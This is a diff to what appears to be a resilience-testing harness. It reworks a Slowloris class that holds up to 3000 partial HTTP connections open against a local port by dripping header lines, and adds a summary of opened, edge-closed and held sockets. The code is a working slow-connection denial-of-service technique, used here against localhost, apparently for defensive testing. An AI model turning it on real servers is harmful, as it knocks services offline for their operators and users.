@@ -195,25 +195,30 @@ class Slowloris(Attack):
     threads = 1
 
     def once(self, number, count):
-        if not hasattr(self, "sockets"):
-            self.sockets = []
+        if count == 0:
+            self.sockets, self.opened, self.closed = [], 0, 0
         while len(self.sockets) < 3000 and not self.stop.is_set():
             try:
                 sock = socket.create_connection(("127.0.0.1", self.port), timeout=1)
                 sock.sendall(b"GET / HTTP/1.1\r\nHost: " + self.host.encode() + b"\r\n")
-                self.sockets.append(sock)
             except OSError:
                 break
-        closed = 0
+            self.sockets.append(sock)
+            self.opened += 1
         for sock in list(self.sockets):
             try:
                 sock.sendall(b"X-Slow: 1\r\n")
             except OSError:
-                closed += 1
+                self.closed += 1
                 self.sockets.remove(sock)
                 sock.close()
         self.stop.wait(1)
-        return f"{closed} closed by the edge this second" if closed else "all held"
+
+    def summary(self):
+        held = len(getattr(self, "sockets", ()))
+        return (
+            f"{getattr(self, 'opened', 0):,} opened, {getattr(self, 'closed', 0):,} closed by the edge, {held:,} held"
+        )
 
     def __exit__(self, *exc):
         super().__exit__(*exc)
